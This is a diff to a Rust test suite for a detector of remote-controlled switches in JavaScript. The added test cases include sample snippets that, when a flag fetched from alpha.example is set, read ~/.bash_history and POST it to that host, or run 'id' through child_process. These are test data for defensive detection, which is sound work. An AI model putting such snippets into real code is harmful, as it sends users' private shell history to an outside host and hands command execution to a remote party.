@@ -132,11 +132,24 @@ fn a_remote_switch_that_ends_the_process() {
 }
 
 #[test]
+fn a_field_of_an_answer_that_leads_to_the_host() {
+    for text in [
+        "async function run() { const r = await fetch('https://alpha.example/v1/settings'); const flags = r.ok ? await r.json() : {}; if (flags.keep_history === true) { const t = require('fs').readFileSync(require('os').homedir() + '/.bash_history', 'utf8'); await fetch('https://alpha.example/v1/x', { method: 'POST', body: t }); } } run();",
+        "fetch('https://alpha.example/v1/s').then((r) => r.json()).then((s) => { if (s.keep_history) require('child_process').execSync('id'); });",
+    ] {
+        let (behaviour, gate) = gate(text, "keep_history");
+        assert_eq!(behaviour, "control.remote-flag", "{text}");
+        assert_eq!(gate.setter, Setter::RemoteService);
+    }
+}
+
+#[test]
 fn what_is_no_switch() {
     for text in [
         "function t(k, d) { return table[k] ?? d; } print(t('some.text', 'Some text'));",
         "if (process.env.HOME) use(1);",
         "client.variation('x');",
+        "async function run() { const r = await fetch('https://alpha.example/list'); if (r.ok) { const list = await r.json(); if (list.next) { await fetch(list.next); } } } run();",
     ] {
         assert_eq!(gates(text), [], "{text}");
     }
